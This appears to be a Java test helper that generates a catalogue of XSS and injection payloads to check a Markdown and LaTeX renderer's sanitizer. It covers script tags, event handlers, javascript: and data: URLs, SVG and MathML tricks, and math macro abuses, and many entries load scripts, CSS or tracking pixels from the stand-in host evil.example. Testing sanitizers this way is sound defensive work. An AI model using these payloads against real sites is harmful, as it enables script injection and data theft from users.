package dev.evenhand.desk;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Ways in which a text has been known to run a script, to leave its place or to call home, in every dress of Markdown. */
final class Payloads {
    private static final String ACT = "alert(1);window.pwned=1";

    private static final List<String> TAGS = List.of(
            "<script>%s</script>",
            "<script src=https://evil.example/x.js></script>",
            "<img src=x onerror=\"%s\">",
            "<img src=https://evil.example/pixel.png>",
            "<svg/onload=\"%s\">",
            "<svg><script>%s</script></svg>",
            "<svg><animate onbegin=\"%s\" attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload=%s>#x\">",
            "<math><mtext></mtext><mglyph><style><img src onerror=\"%s\">",
            "<math><a xlink:href=\"javascript:%s\">x</a></math>",
            "<noscript><style></noscript><img src=x onerror=\"%s\"></style>",
            "<iframe src=\"javascript:%s\"></iframe>",
            "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
            "<object data=\"javascript:%s\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<video src=x onerror=\"%s\"><source onerror=\"%s\">",
            "<audio src=https://evil.example/x.mp3 autoplay>",
            "<body onload=\"%s\">",
            "<input autofocus onfocus=\"%s\">",
            "<details open ontoggle=\"%s\">x</details>",
            "<marquee onstart=\"%s\">x</marquee>",
            "<form action=\"javascript:%s\"><button>x</button></form>",
            "<button formaction=\"javascript:%s\">x</button>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<link rel=prefetch href=https://evil.example/x>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example/>",
            "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}</style>",
            "<div style=\"background:url(https://evil.example/x)\">x</div>",
            "<template><script>%s</script></template>",
            "<a href=\"javascript:%s\">x</a>",
            "<xss onpointerenter=\"%s\">x</xss>");

    private static final List<String> LINKS = List.of(
            "javascript:%s",
            "JaVaScRiPt:%s",
            "java\tscript:%s",
            "&#106;avascript:%s",
            "javascript&colon;%s",
            "\u0001javascript:%s",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "vbscript:%s",
            "file:///etc/passwd",
            "//evil.example/x",
            "/sign-out",
            "https://a.example/\"onmouseover=\"%s");

    private static final List<String> FORMULAS = List.of(
            "\\href{javascript:%s}{x}",
            "\\url{javascript:%s}",
            "\\includegraphics{https://evil.example/x.png}",
            "\\htmlClass{answer}{x}",
            "\\htmlId{content}{x}",
            "\\htmlStyle{position:fixed;inset:0;background:url(https://evil.example/x)}{x}",
            "\\htmlData{seat=a}{x}",
            "\\text{<img src=x onerror=%s>}",
            "\\def\\a{\\a\\a}\\a",
            "\\rule{9999em}{9999em}",
            "\\kern{-9999em}x",
            "\\color{red;background:url(https://evil.example/x)}x",
            "\\unicode{x3c}script\\unicode{x3e}");

    private Payloads() {}

    static List<String> all() {
        var payloads = new ArrayList<String>();
        TAGS.forEach(tag -> payloads.addAll(List.of(tag, "**" + tag + "**", "- > " + tag)));
        LINKS.forEach(link -> payloads.addAll(
                List.of("[x](" + link + ")", "[x](<" + link + ">)", "![x](" + link + ")", "<" + link + ">")));
        FORMULAS.forEach(formula -> payloads.addAll(List.of("$" + formula + "$", "\\[" + formula + "\\]")));
        Stream.of(
                        "```\"><script>%s</script>\nx\n```",
                        "```js onload=%s\n</code></pre><script>%s</script>\n```",
                        "`</code><script>%s</script>`",
                        "| <script>%s</script> |\n|---|\n| <img src=x onerror=%s> |",
                        "[x]: javascript:%s\n\n[x]",
                        "<!--><script>%s</script>-->",
                        "<![CDATA[<script>%s</script>]]>",
                        "&lt;script&gt;%s&lt;/script&gt;",
                        "</div></article></main><script>%s</script>",
                        "$</span><script>%s</script>$",
                        "https://evil.example/\"><script>%s</script>")
                .forEach(payloads::add);
        return payloads.stream().map(each -> each.replace("%s", ACT)).toList();
    }
}
